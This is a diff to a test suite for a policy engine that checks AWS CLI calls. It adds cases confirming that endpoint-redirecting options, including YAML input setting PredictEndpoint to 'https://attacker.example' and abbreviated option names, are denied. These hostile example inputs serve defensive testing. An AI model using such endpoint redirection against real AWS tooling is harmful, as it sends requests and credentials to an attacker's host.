@@ -145,6 +145,9 @@ describe("aws: command options that leave the endpoint or region are locked in e
     ["machinelearning", "predict", '--cli-i={"PredictEndpoint":"https://attacker.example"}'],
     ["machinelearning", "--", "predict", "--ml-model-id", "m", "--record", "{}", "--predict-e", "attacker.example"],
     ["machinelearning", "predict", "--predict-endpoint=attacker.example"],
+    // AWS CLI v2's YAML carrier sets it as well, whether or not the installed CLI has that carrier.
+    ["machinelearning", "predict", "--cli-input-yaml", "PredictEndpoint: https://attacker.example"],
+    ["machinelearning", "predict", "--cli-input-y=PredictEndpoint: https://attacker.example"],
   ])("aws %j", (...argv) => {
     expect(decide(aws, argv)).toMatchObject({ result: "deny", source: "locked-option" });
   });
@@ -213,6 +216,10 @@ describe("providers/aws/provider.yaml locked_command_options", () => {
     expect(decide(older, ["emr", "create-default-roles", "--iam-end=http://127.0.0.1:18999"])).toMatchObject({ result: "deny", source: "locked-option" });
     expect(decide(older, ["s3", "cp", "s3://a/k", "s3://b/k", "--source-region", "eu-west-1"])).toMatchObject({ result: "deny", source: "locked-option" });
     expect(decide(older, ["machinelearning", "predict", "--cli-input-json", '{"PredictEndpoint":"https://attacker.example"}'])).toMatchObject({
+      result: "deny",
+      source: "locked-option",
+    });
+    expect(decide(older, ["machinelearning", "predict", "--cli-input-yaml", "PredictEndpoint: https://attacker.example"])).toMatchObject({
       result: "deny",
       source: "locked-option",
     });
